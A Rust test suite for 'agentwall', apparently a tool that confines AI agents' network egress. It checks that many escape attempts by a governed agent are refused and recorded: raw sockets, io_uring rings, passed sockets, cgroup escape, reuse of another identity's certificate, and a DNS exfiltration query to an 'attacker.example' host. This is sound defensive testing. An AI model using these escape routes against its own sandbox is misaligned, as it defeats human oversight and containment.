//! Every way a governed agent might get out, each expected to fail: the agent is launched by
//! the real node under its identity as an unprivileged user (`--user nobody`), inside a
//! network namespace the test made (nothing there is routable, so nothing can leave even if a
//! verdict were wrong). Each case asserts the exact outcome, and the record where the kernel
//! writes one.

use std::{
    os::unix::fs::PermissionsExt as _,
    path::Path,
    process::Command,
    time::{Duration, Instant},
};

use agentwall_tests::{
    NetNs, Probe, bin_path,
    node::{
        NodeProc, audit_records, launch_as_nobody, lsm_line, run_ok, setup, wait_flow_where,
        write_cert,
    },
    pki::CertSpec,
};

const ID: &str = "spiffe://example.org/agent/escape";

const POLICY: &str = "\
kind: AgentPolicy
name: escape
identity: spiffe://example.org/agent/escape
egress:
  - to: [192.0.2.0/24]
    ports: [443]
    protocol: tcp
";

/// Waits for a deny record of the identity to `dest:port` and returns it.
fn denial(socket: &Path, dest: &str, port: u16) -> serde_json::Value {
    wait_flow_where(socket, "deny", |r| r["dest"] == dest && r["port"] == port)
}

#[test]
fn a_governed_agent_cannot_get_out() {
    let (env, tmp, ca) = setup("attacks", POLICY);
    let dir = tmp.path();
    let audit = dir.join("audit.jsonl");
    let node = NodeProc::start_with(
        &env,
        dir,
        &[
            "--audit-log",
            audit.to_str().unwrap(),
            "--aggregate-window-secs",
            "1",
        ],
    );
    let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
    // Where the agent (as nobody) and a helper can meet over a unix socket.
    let shared = dir.join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();

    let ns = NetNs::new("attacks");
    let mut c = launch_as_nobody(&node.socket, &cert, &key);
    ns.enter(&mut c);
    let mut agent = Probe::from_command(c);
    // An unenrolled helper in the same namespace, root, outside the agent's cgroup.
    let helper_cg = env.cgroup("helper");
    let mut h = Command::new(bin_path("aw-probe"));
    h.args(["--cgroup", helper_cg.path().to_str().unwrap()]);
    ns.enter(&mut h);
    let mut helper = Probe::from_command(h);

    // Allowed is allowed (ENETUNREACH: the hook let it through, nothing is routable).
    assert_eq!(agent.cmd("connect tcp 192.0.2.10 443"), "err ENETUNREACH");

    // Raw and packet sockets: an unprivileged agent has no CAP_NET_RAW, and for a privileged
    // one sock_create denies raw sockets (datapath tests). ICMP ping sockets and SCTP are not
    // TCP or UDP: sock_create denies them and records it.
    assert_eq!(agent.cmd("socket inet raw 1"), "err EPERM");
    assert_eq!(agent.cmd("socket inet6 raw 58"), "err EPERM");
    assert_eq!(agent.cmd("socket packet raw 768"), "err EPERM");
    // ICMP ping sockets need the user's group in net.ipv4.ping_group_range (EACCES without);
    // with it, sock_create denies them.
    let range = std::fs::read_to_string("/proc/sys/net/ipv4/ping_group_range").unwrap();
    let mut r = range.split_whitespace().map(|v| v.parse::<u64>().unwrap());
    let (lo, hi) = (r.next().unwrap(), r.next().unwrap());
    let nobody_gid = 65534;
    let want = if (lo..=hi).contains(&nobody_gid) {
        "err EPERM"
    } else {
        "err EACCES"
    };
    assert_eq!(agent.cmd("socket inet dgram 1"), want, "ICMP ping socket");
    // SCTP: where the kernel has it (the unenrolled helper can open one), sock_create denies
    // it; elsewhere nobody gets one.
    let want = match helper.cmd("socket inet stream 132").as_str() {
        "ok" => "err EPERM",
        other => {
            assert_eq!(other, "err EPROTONOSUPPORT");
            "err EPROTONOSUPPORT"
        }
    };
    assert_eq!(agent.cmd("socket inet stream 132"), want, "SCTP socket");

    // Address tricks: IPv4-mapped IPv6 is judged as IPv4; IPv4-compatible IPv6 is an IPv6
    // address no rule names.
    assert_eq!(agent.cmd("connect tcp ::ffff:203.0.113.5 443"), "err EPERM");
    assert_eq!(agent.cmd("connect tcp ::203.0.113.5 443"), "err EPERM");
    denial(&node.socket, "203.0.113.5", 443);
    denial(&node.socket, "::cb00:7105", 443);

    // Other ways to send: sendmmsg, TCP Fast Open.
    assert_eq!(agent.cmd("sendmmsg udp 203.0.113.6 5353"), "err EPERM");
    assert_eq!(agent.cmd("fastopen 203.0.113.7 443"), "err EPERM");
    // io_uring: this policy does not allow it, so the agent has no ring for another process
    // to put its own sockets in (IORING_OP_MSG_RING), and cannot enter or register with a
    // ring it came to hold some other way (one may hold registered sockets no hook judges as
    // the agent's): refused before the kernel looks at the descriptor. The helper, outside,
    // has io_uring. (`wire.rs` shows the hooks judging io_uring's connect and sendmsg, where
    // a policy allows it.)
    assert_eq!(
        agent.cmd("uring-calls"),
        "setup=EPERM enter=EPERM register=EPERM"
    );
    // Nor the ways another process's ring could reach it without io_uring_enter: taking a
    // descriptor with pidfd_getfd, and a seccomp listener (SECCOMP_IOCTL_NOTIF_ADDFD installs
    // any file in the process that made it). The helper may.
    assert_eq!(agent.cmd("pidfd-getfd-self"), "err EPERM");
    assert_eq!(agent.cmd("seccomp-listener"), "err EPERM");
    assert_eq!(helper.cmd("pidfd-getfd-self"), "ok");
    assert_eq!(helper.cmd("seccomp-listener"), "ok");
    let outside = helper.cmd("uring-calls");
    assert!(
        outside.starts_with("setup=ok ") && !outside.contains("EPERM"),
        "{outside}: the io_uring tests need a host that lets root use io_uring (kernel.io_uring_disabled 0 or 1)"
    );
    for (dest, port) in [("203.0.113.6", 5353), ("203.0.113.7", 443)] {
        let r = denial(&node.socket, dest, port);
        assert_eq!(r["identity"], ID);
        assert_eq!(r["reason"], "no rule allows it");
    }

    // DNS, to any resolver: it goes to the node's proxy, which refuses every name this
    // identity's policy does not allow (all of them: it has no name rules), over UDP and TCP.
    // Nothing is forwarded: a query is not a way out.
    for (mode, ty) in [("udp", "TXT"), ("tcp", "TXT"), ("udpu", "A")] {
        assert_eq!(
            agent.cmd(&format!(
                "resolve 6c65616b.attacker.example 203.0.113.53 {mode} {ty}"
            )),
            "rcode Refused",
            "{mode} {ty}"
        );
    }

    // A socket an unenrolled process made and passed over SCM_RIGHTS is judged by the task
    // that calls connect(): the agent's identity, so denied. (The reverse, an agent's socket
    // used by an unenrolled process, is judged as unenrolled: see the threat model.)
    let path = shared.join("pass.sock");
    let path = path.to_str().unwrap();
    assert_eq!(agent.cmd(&format!("recv-socket {path}")), "ok");
    assert_eq!(helper.cmd(&format!("send-socket {path}")), "ok");
    assert_eq!(agent.cmd("connect-received 203.0.113.10 443"), "err EPERM");
    denial(&node.socket, "203.0.113.10", 443);

    // A ring passed in anyway. Over SCM_RIGHTS the kernel refuses one. Kept across the
    // launcher's exec (its standard input, say), the node refuses the launch whatever the
    // policy: an SQPOLL ring's thread does the ring's work, as the process that made it,
    // with no call of the agent's.
    let path = shared.join("ring.sock");
    let path = path.to_str().unwrap();
    assert_eq!(agent.cmd(&format!("recv-socket {path}")), "ok");
    assert_eq!(helper.cmd(&format!("send-ring {path}")), "err EINVAL");
    // The helper runs `agentwall launch` for this identity with `how` (a probe command).
    let launch_by = |helper: &mut Probe, how: &str| {
        helper.cmd(&format!(
            "{how} {aw} launch --cert {c} --key {k} --socket {s} -- /usr/bin/true",
            aw = bin_path("agentwall").display(),
            c = cert.display(),
            k = key.display(),
            s = node.socket.display(),
        ))
    };
    let on_ring = launch_by(&mut helper, "spawn-on-ring");
    // A parent whose own filter answers seccomp() without running it: the launcher finds
    // its filter not in force, and runs nothing.
    let faked = launch_by(&mut helper, "spawn-seccomp-faked");
    assert!(
        faked.starts_with("exit 2: agentwall launch: the seccomp filter that keeps the agent to native system calls is not in force after its install (Seccomp_filters went from "),
        "{faked}"
    );
    assert!(
        on_ring.starts_with("exit 2: agentwall launch: rejected: ")
            && on_ring.contains(" fd 0: an io_uring instance the agent would keep (its work runs as the process that made it, an SQPOLL ring's outside the agent's cgroup)"),
        "{on_ring}"
    );

    // Leaving the cgroup: another cgroup's cgroup.procs and a child cgroup are root's.
    let me = agent.pid;
    for target in [env.root.path(), helper_cg.path()] {
        assert_eq!(
            agent.cmd(&format!("write {}/cgroup.procs {me}", target.display())),
            "err EACCES"
        );
    }
    let own = std::fs::read_to_string(format!("/proc/{me}/cgroup")).unwrap();
    let own = own
        .lines()
        .find_map(|l| l.strip_prefix("0::"))
        .unwrap()
        .to_owned();
    let own_dir = agentwall::cgroup::Cgroup2Mount::discover()
        .unwrap()
        .mount_point
        .join(own.trim_start_matches('/'));
    assert_eq!(
        agent.cmd(&format!("mkdir {}/escape", own_dir.display())),
        "err EACCES"
    );

    // The node's API: root only.
    assert_eq!(
        agent.cmd(&format!("connect-unix {}", node.socket.display())),
        "err EACCES"
    );

    // Thousands of children inherit the cgroup: every one is denied, and the records add up
    // to exactly that many flows.
    assert_eq!(
        agent.cmd("fork-storm 1000 tcp 203.0.113.11 443"),
        "eperm=1000 other=0"
    );
    let deadline = agentwall_tests::deadline(Duration::from_secs(20));
    loop {
        let total: u64 = audit_records(&audit)
            .into_iter()
            .filter(|r| {
                r["kind"] == "decision" && r["dest"] == "203.0.113.11" && r["verdict"] == "deny"
            })
            .map(|r| r["count"].as_u64().unwrap())
            .sum();
        if total == 1000 {
            break;
        }
        assert!(total < 1000, "counted {total} of 1000");
        assert!(Instant::now() < deadline, "counted {total} of 1000");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A launcher that does not say it keeps io_uring from the agent (one older than the node)
/// is refused a launch whose policy refuses io_uring: the node cannot see the filter, so it
/// holds the launcher to its word. The request is sent as such a launcher sends it.
#[test]
fn a_launcher_that_does_not_keep_io_uring_from_the_agent_is_refused() {
    let (env, tmp, ca) = setup("attacks-old-launcher", POLICY);
    let dir = tmp.path();
    let node = NodeProc::start(&env, dir);
    let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
    // TLS 1.3 with the certificate, one JSON line each way, as `agentwall::api::call`.
    let client = "import socket, ssl, sys\n\
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n\
ctx.check_hostname = False\n\
ctx.verify_mode = ssl.CERT_NONE\n\
ctx.minimum_version = ssl.TLSVersion.TLSv1_3\n\
ctx.load_cert_chain(sys.argv[2], sys.argv[3])\n\
s = socket.socket(socket.AF_UNIX)\n\
s.connect(sys.argv[1])\n\
t = ctx.wrap_socket(s, server_hostname='agentwall')\n\
t.sendall(sys.argv[4].encode() + b'\\n')\n\
print(t.makefile().readline(), end='')\n";
    let launch = |refuses_io_uring: bool| -> serde_json::Value {
        let req = agentwall::api::Request::Launch {
            follow: None,
            workload_api: None,
            issued: None,
            refuses_io_uring,
        };
        // Its own process: a launch that goes through binds the caller.
        let out = run_ok(
            Command::new("python3")
                .args(["-c", client])
                .arg(&node.socket)
                .arg(&cert)
                .arg(&key)
                .arg(serde_json::to_string(&req).unwrap()),
        );
        serde_json::from_slice(&out).unwrap()
    };
    let old = launch(false);
    assert_eq!(old["ok"], false, "{old}");
    assert_eq!(
        old["error"],
        "this launcher does not keep io_uring from the agent, and the identity's policy refuses io_uring (an `agentwall launch` older than the node?): launch with the node's own agentwall, or set `io_uring: allow` in the policy",
        "{old}"
    );
    assert!(old.get("io_uring").is_none(), "{old}");
    let new = launch(true);
    assert_eq!(new["ok"], true, "{new}");
    assert_eq!(new["io_uring"], "refuse", "{new}");
    // With `io_uring: allow`, any launcher may launch.
    std::fs::write(
        dir.join("policy/agents.yaml"),
        format!("{POLICY}io_uring: allow\n"),
    )
    .unwrap();
    run_ok(
        Command::new(bin_path("agentwall"))
            .args(["policy", "apply", "--socket"])
            .arg(&node.socket),
    );
    let old = launch(false);
    assert_eq!(old["ok"], true, "{old}");
    assert_eq!(old["io_uring"], "allow", "{old}");
}

/// An agent that can reach the node's socket (through `socket_group`) and holds another
/// identity's certificate cannot launch itself, or anything, into that identity: a caller
/// inside a bound cgroup is refused, and nothing changes for it.
#[test]
fn a_governed_agent_cannot_launch_into_another_identity() {
    const OTHER: &str = "spiffe://example.org/agent/wide";
    let policy = format!(
        "{POLICY}---\nkind: AgentPolicy\nname: wide\nidentity: {OTHER}\negress:\n  - to: [0.0.0.0/0]\n"
    );
    let (env, tmp, ca) = setup("attacks-relaunch", &policy);
    let dir = tmp.path();
    let audit = dir.join("audit.jsonl");
    let node = NodeProc::start_with(
        &env,
        dir,
        &[
            "--audit-log",
            audit.to_str().unwrap(),
            "--socket-group",
            "nogroup",
        ],
    );
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
    // The other identity's credentials, readable by the agent's user.
    let (wide_cert, wide_key) = write_cert(dir, "wide", &ca.issue(&CertSpec::agent(OTHER)));
    for f in [&wide_cert, &wide_key] {
        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let ns = NetNs::new("relaunch");
    let mut c = launch_as_nobody(&node.socket, &cert, &key);
    ns.enter(&mut c);
    let mut agent = Probe::from_command(c);
    assert_eq!(agent.cmd("connect tcp 203.0.113.1 443"), "err EPERM");
    // The socket is the agent's to reach now.
    assert_eq!(
        agent.cmd(&format!("connect-unix {}", node.socket.display())),
        "ok"
    );

    let relaunch = format!(
        "spawn {aw} launch --cert {c} --key {k} --socket {s} -- {probe} connect tcp 203.0.113.1 443",
        aw = agentwall_tests::bin_for_anyone("agentwall").display(),
        c = wide_cert.display(),
        k = wide_key.display(),
        s = node.socket.display(),
        probe = agentwall_tests::bin_for_anyone("aw-probe").display(),
    );
    let answer = agent.cmd(&relaunch);
    assert!(
        answer.starts_with(
            "exit 2: agentwall launch: rejected: the calling process is already governed: "
        ),
        "{answer}"
    );
    assert!(
        answer.ends_with(&format!(
            "is bound to {ID}; launch and enroll are refused from inside a bound cgroup (renew extends the identity it has) (identity {OTHER})"
        )),
        "{answer}"
    );
    // Nothing changed for the agent, and the refusal is on record.
    assert_eq!(agent.cmd("connect tcp 203.0.113.1 443"), "err EPERM");
    assert_eq!(agent.cmd("connect tcp 192.0.2.10 443"), "err ENETUNREACH");
    let rejected = audit_records(&audit)
        .into_iter()
        .find(|r| r["kind"] == "identity" && r["event"] == "rejected")
        .expect("the refused launch is recorded");
    assert_eq!(rejected["op"], "launch");
    assert_eq!(rejected["identity"], OTHER);
    assert!(
        rejected["reason"]
            .as_str()
            .unwrap()
            .starts_with("the calling process is already governed"),
        "{rejected}"
    );
}

/// Socket families that reach other hosts outside the inet hooks (vsock to the hypervisor,
/// packet, XDP, TIPC, RDS, CAN, Bluetooth, ...): a governed agent gets EPERM for every family but
/// unix, netlink, inet and inet6, with a record, where the kernel runs BPF LSM programs. Where it
/// does not, the node says so at start and in `status`, with the kernel's reason, and this test
/// holds it to saying that instead. (This project's CI kernel refuses every BPF program type
/// that attaches through trampolines, LSM included; the kernel matrix runs the first branch.)
#[test]
fn a_governed_agent_opens_only_unix_netlink_and_inet_sockets() {
    let (env, tmp, ca) = setup("attacks-families", POLICY);
    let dir = tmp.path();
    let node = NodeProc::start_with(&env, dir, &["--aggregate-window-secs", "1"]);
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
    let ns = NetNs::new("families");
    let mut c = launch_as_nobody(&node.socket, &cert, &key);
    ns.enter(&mut c);
    let mut agent = Probe::from_command(c);
    let helper_cg = env.cgroup("helper");
    let mut h = Command::new(bin_path("aw-probe"));
    h.args(["--cgroup", helper_cg.path().to_str().unwrap()]);
    ns.enter(&mut h);
    let mut helper = Probe::from_command(h);

    // What a governed agent needs.
    for s in [
        "socket unix stream 0",
        "socket unix dgram 0",
        "socket netlink raw 0",
        "socket inet stream 6",
        "socket inet6 dgram 17",
    ] {
        assert_eq!(agent.cmd(s), "ok", "{s}");
    }

    match lsm_line(&node.socket) {
        None => {
            for s in [
                "socket vsock stream 0",
                "socket vsock dgram 0",
                "socket packet dgram 0",
                "socket xdp raw 0",
                "socket tipc rdm 0",
                "socket rds seqpacket 0",
                "socket can raw 1",
                "socket bluetooth raw 1",
                "socket alg seqpacket 0",
                "socket key raw 2",
                "socket llc dgram 0",
            ] {
                assert_eq!(agent.cmd(s), "err EPERM", "{s}");
            }
            // Not the kernel's own refusal: a process bound to no identity is not refused by
            // agentwall.
            assert_ne!(helper.cmd("socket vsock stream 0"), "err EPERM");
            let r = wait_flow_where(&node.socket, "socket-deny", |r| {
                r["reason"] == "socket family not allowed"
                    && r["protocol"]
                        .as_str()
                        .is_some_and(|p| p.starts_with("socket family 40 (vsock)"))
            });
            assert_eq!(r["identity"], ID, "{r}");
            // The ICMP error queue: shut to the agent whatever opened it (a 32-bit setsockopt
            // of an enrolled agent skips the hook that keeps IP_RECVERR off).
            for fam in ["inet", "inet6"] {
                assert_eq!(agent.cmd(&format!("errqueue {fam}")), "err EPERM", "{fam}");
                assert_eq!(
                    helper.cmd(&format!("errqueue {fam}")),
                    "err EAGAIN",
                    "{fam}"
                );
            }
            let r = wait_flow_where(&node.socket, "socket-deny", |r| {
                r["reason"] == "socket error queue closed (ICMP errors carry unjudged bytes)"
            });
            assert_eq!(r["identity"], ID, "{r}");
            assert_eq!(
                r["protocol"], "socket error queue (recvmsg MSG_ERRQUEUE)",
                "{r}"
            );
        }
        Some(why) => {
            let text = String::from_utf8(run_ok(
                Command::new(bin_path("agentwall"))
                    .args(["status", "--socket"])
                    .arg(&node.socket),
            ))
            .unwrap();
            assert!(
                text.contains(&format!("socket families: NOT judged beyond inet: {why}")),
                "{text}"
            );
            // The inet families stay judged by sock_create either way.
            assert_eq!(agent.cmd("socket inet raw 1"), "err EPERM");
            // No LSM line for the error queue: it reads (empty, as the setsockopt line keeps
            // IP_RECVERR off for native calls).
            assert_eq!(agent.cmd("errqueue inet"), "err EAGAIN");
            drop(helper);
        }
    }
}
